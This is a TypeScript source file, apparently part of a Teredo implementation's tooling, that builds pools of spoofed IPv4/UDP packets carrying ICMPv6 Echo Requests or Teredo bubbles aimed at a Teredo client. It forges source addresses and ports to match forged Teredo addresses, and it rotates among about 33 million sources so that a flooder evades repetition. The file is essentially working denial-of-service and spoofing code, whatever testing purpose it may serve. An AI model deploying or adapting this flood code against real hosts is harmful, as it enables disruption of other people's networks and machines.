/**
 * A pool of spoofed self-consistent Teredo datagrams, ready for sendUdpBatch on a raw IPv4
 * socket: in each slot a whole IPv4/UDP packet whose IPv4 source and UDP source port are the
 * mapping that its IPv6 source, a Teredo address, embeds. RFC 4380 (section 5.2.3) takes such a
 * packet as coming from a peer at that mapping, and anyone can send it. It goes to a client's
 * mapped address and port, for the client's Teredo address. The IPv6 packet is an ICMPv6 Echo
 * Request (the client's host answers it, so it costs the client most) or a bubble (never
 * delivered; it only makes the peer).
 *
 * respawn(generation) gives every slot a new source (address, port and checksums rewritten in
 * place), so that a flooder that cycles through the pool, respawning at each turn, never repeats
 * a source until 2 × 254 × 64,512 (33 million) of them have gone.
 */
import { createPacketBatch, slotOffset } from '../../src/os/packet-batch.js';
import type { PacketBatch } from '../../src/os/packet-batch.js';
import { encodeTeredoAddress } from '../../src/teredo/address.js';
import { buildBubble, BUBBLE_BYTES } from '../../src/teredo/bubble.js';
import { readU32 } from '../../src/teredo/bytes.js';
import { buildEcho, echoPacketLength } from '../../src/teredo/echo.js';
import { fillIcmpv6Checksum } from '../../src/teredo/icmpv6-message.js';
import { parseIPv4 } from '../../src/teredo/ipv4.js';
import { IPV4_UDP_HEADER_BYTES, writeIpv4UdpHeaders } from './ipv4-udp.js';
import { SPOOFED_SOURCE_NETWORKS } from './spoofed-rs.js';

export type SpoofedPayload = 'echo' | 'bubble';
export const SPOOFED_PAYLOADS: readonly SpoofedPayload[] = Object.freeze(['echo', 'bubble']);

export interface SpoofedTeredoTarget {
  /** The client's mapped address and port (uint32 address), where the datagrams go. */
  readonly ipv4: number;
  readonly port: number;
  /** The client's Teredo address, their IPv6 destination. */
  readonly address: Uint8Array;
  /** The Teredo server the spoofed addresses name (any global IPv4). */
  readonly server: number;
}

export interface SpoofedTeredoPool {
  readonly pool: PacketBatch;
  /** Distinct sources one respawn cycle can give before they repeat. */
  readonly distinctSources: number;
  /** Rewrites every slot with the sources of `generation` (0 is the pool as built). */
  respawn(generation: number): void;
}

const NETWORKS = SPOOFED_SOURCE_NETWORKS.map((text) => parseIPv4(text) ?? 0);
const HOSTS_PER_NETWORK = 254;
const SOURCE_ADDRESSES = NETWORKS.length * HOSTS_PER_NETWORK;
const LOWEST_PORT = 1024;
const PORTS = 0x10000 - LOWEST_PORT;
const ECHO_BYTES = echoPacketLength(0);
const IPV6_SOURCE = 8;

/** The mapping of source number `k`: a host of the spoofed networks and a port. */
function mappingOf(k: number): { readonly ipv4: number; readonly port: number } {
  const host = k % SOURCE_ADDRESSES;
  const network = NETWORKS[host % NETWORKS.length]!;
  return {
    ipv4: (network | (1 + Math.floor(host / NETWORKS.length))) >>> 0,
    port: LOWEST_PORT + (Math.floor(k / SOURCE_ADDRESSES) % PORTS),
  };
}

export function buildSpoofedTeredoPool(
  count: number,
  target: SpoofedTeredoTarget,
  payload: SpoofedPayload,
): SpoofedTeredoPool {
  const ipv6Bytes = payload === 'echo' ? ECHO_BYTES : BUBBLE_BYTES;
  const pool = createPacketBatch(count, IPV4_UDP_HEADER_BYTES + ipv6Bytes);
  const source = new Uint8Array(16);
  // The spoofed addresses share the client's prefix, whatever its server advertised.
  const prefix = readU32(target.address, 0);
  for (let i = 0; i < count; i++) {
    const ipv6 = slotOffset(pool, i) + IPV4_UDP_HEADER_BYTES;
    if (payload === 'echo') {
      buildEcho(pool.data, ipv6, {
        kind: 'request',
        source,
        destination: target.address,
        hopLimit: 64,
        identifier: i & 0xffff,
        sequence: 1,
      });
    } else {
      buildBubble(pool.data, ipv6, { source, destination: target.address });
    }
    pool.addresses[i] = target.ipv4;
    pool.ports[i] = target.port;
  }

  const respawn = (generation: number): void => {
    for (let i = 0; i < count; i++) {
      const k = generation * count + i;
      const { ipv4, port } = mappingOf(k);
      const offset = slotOffset(pool, i);
      const ipv6 = offset + IPV4_UDP_HEADER_BYTES;
      encodeTeredoAddress(
        { prefix, server: target.server, flags: 0, port, client: ipv4 },
        pool.data,
        ipv6 + IPV6_SOURCE,
      );
      if (payload === 'echo') fillIcmpv6Checksum(pool.data, ipv6);
      pool.lengths[i] = writeIpv4UdpHeaders(pool.data, offset, ipv6Bytes, {
        source: ipv4,
        destination: target.ipv4,
        sourcePort: port,
        destinationPort: target.port,
        identification: k & 0xffff,
      });
    }
  };
  respawn(0);
  return { pool, distinctSources: SOURCE_ADDRESSES * PORTS, respawn };
}
